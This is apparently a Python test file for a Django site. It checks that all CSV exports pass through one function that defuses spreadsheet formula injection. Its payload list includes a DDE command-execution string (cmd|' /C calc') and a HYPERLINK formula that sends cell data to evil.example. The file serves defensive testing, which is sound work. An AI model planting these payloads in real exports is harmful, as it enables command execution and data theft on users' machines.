"""No file that the site hands out is taken for formulas by a spreadsheet: one door writes CSV, and it disarms each cell."""

from __future__ import annotations

import ast
import csv
import io
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from pilots.views.files import csv_file
from reports.queries import datasets
from reports.rules.datasets import DATASETS
from tests.architecture import tree

#: Beginnings that Excel, LibreOffice or Google Sheets take for a formula, with what an attacker would put behind them.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
ARMED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
#: Ways to write tables, and the only files that may use them. Stories make what a supplier would send; a digest is no file.
WRITERS = ("csv.writer", "csv.DictWriter", ".write_csv", "Workbook(", ".write_excel", "xlsxwriter", "to_csv")
DOORS = {
    "pilots/views/files.py": "csv.writer",
    "pilots/rules/repeats.py": ".write_csv",
    "govlink/stories/evidence.py": "csv.writer",
}


def cells_of(response: Any) -> list[list[str]]:
    content = b"".join(response.streaming_content) if isinstance(response, StreamingHttpResponse) else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_one_place_writes_tables_for_spreadsheets() -> None:
    found = {
        str(path): writer
        for path in tree.python()
        for writer in WRITERS
        if path.parts[0] not in {"tests", "bench", "scripts"} and writer in tree.text(path)
    }
    assert found == DOORS, "Hand tables out through pilots.views.files.csv_file: it disarms formulas."


def test_every_view_that_answers_with_csv_goes_through_that_door() -> None:
    """``text/csv`` stands in one product file as what is sent; the supplier's API and the stories name what they take."""
    outside = {"tests", "bench", "scripts", "stories"}
    naming = {str(path) for path in tree.python() if not outside & set(path.parts) and '"text/csv' in tree.text(path)}
    assert naming == {"pilots/views/files.py", "pilots/views/supplier.py"}
    callers = {
        str(path)
        for path in tree.python(floor="views")
        if any(
            isinstance(node, ast.Call) and ast.unparse(node.func) == "csv_file" for node in ast.walk(tree.parsed(path))
        )
    }
    assert callers == {
        "pilots/views/dashboard.py",
        "pilots/views/evidence.py",
        "pilots/views/imports.py",
        "reports/views/open_data.py",
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_table_is_a_formula(payload: str) -> None:
    assert payload.startswith(ARMED)
    rows = cells_of(csv_file("x.csv", [payload, "b"], [[payload, 3], ["plain", payload]]))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(ARMED)] == []
    # Nothing is lost: an apostrophe stands before it, which a spreadsheet shows as text.
    assert cells.count(f"'{payload}") == 3
    assert ("3" in cells, "plain" in cells) == (True, True)


@pytest.mark.django_db
@pytest.mark.parametrize("dataset", sorted(DATASETS))
def test_open_data_of_every_kind_hand_out_planted_formulas_as_text(
    dataset: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every field of every dataset carries a formula: none reaches the file armed."""
    planted = dict.fromkeys(DATASETS[dataset].fields, PAYLOADS[0])
    monkeypatch.setattr(datasets, "all_of", lambda key: iter([planted]))
    rows = cells_of(Client().get(reverse("dataset_csv", args=[dataset])))
    assert rows[0] == list(DATASETS[dataset].fields)
    assert rows[1] == [f"'{PAYLOADS[0]}"] * len(rows[0])
